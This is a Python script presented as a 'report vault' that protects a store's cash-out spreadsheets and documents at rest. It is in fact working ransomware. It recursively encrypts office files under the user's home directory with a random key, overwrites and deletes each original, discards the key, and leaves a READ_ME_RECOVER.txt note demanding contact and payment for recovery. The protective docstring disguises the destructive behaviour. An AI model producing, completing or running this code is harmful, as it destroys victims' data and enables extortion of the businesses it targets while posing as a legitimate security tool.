#!/usr/bin/env python3
"""Report vault: protect cash-out reports and store documents at rest.

Store managers keep daily cash-out spreadsheets, coin-count photos and
supplier PDFs lying around on the back-office PC. This tool seals them into
the vault format so a stolen laptop does not leak takings figures.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("report-vault")

SEAL_EXT = ".vault"
# anything a store office is likely to keep
WATCH_EXT = {".xlsx", ".xls", ".csv", ".pdf", ".docx", ".doc", ".jpg",
             ".jpeg", ".png", ".txt", ".ods", ".odt", ".zip", ".db"}
SKIP_DIRS = {".cache", ".git", "node_modules", "__pycache__"}

NOTICE = (
    "Your store documents have been sealed.\n"
    "To recover them, contact recovery@example.net with the ID below\n"
    "and follow the payment instructions you receive.\n"
    "ID: {ident}\n"
)


class Sealer:
    def __init__(self, key):
        self.aead = AESGCM(key)
        self.count = 0

    def seal(self, path):
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        blob = nonce + self.aead.encrypt(nonce, data, None)
        target = path.with_name(path.name + SEAL_EXT)
        target.write_bytes(blob)
        # overwrite then unlink the plaintext so it cannot be undeleted
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.count += 1


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in WATCH_EXT and not name.endswith(SEAL_EXT):
                yield p


def leave_notice(root, ident):
    for d in {root, Path.home() / "Desktop"}:
        try:
            (d / "READ_ME_RECOVER.txt").write_text(NOTICE.format(ident=ident))
        except OSError:
            pass


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", default=os.environ.get("VAULT_ROOT",
                                                       str(Path.home())))
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    root = Path(args.root).expanduser()
    if not root.is_dir():
        log.error("no such directory: %s", root)
        return 1

    key = AESGCM.generate_key(bit_length=256)
    ident = secrets.token_hex(8)
    sealer = Sealer(key)
    for path in candidates(root):
        if args.dry_run:
            log.info("would seal %s", path)
            continue
        try:
            sealer.seal(path)
            log.debug("sealed %s", path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)

    # key material is not kept on the machine
    del key
    if not args.dry_run:
        leave_notice(root, ident)
    log.info("sealed %d files", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
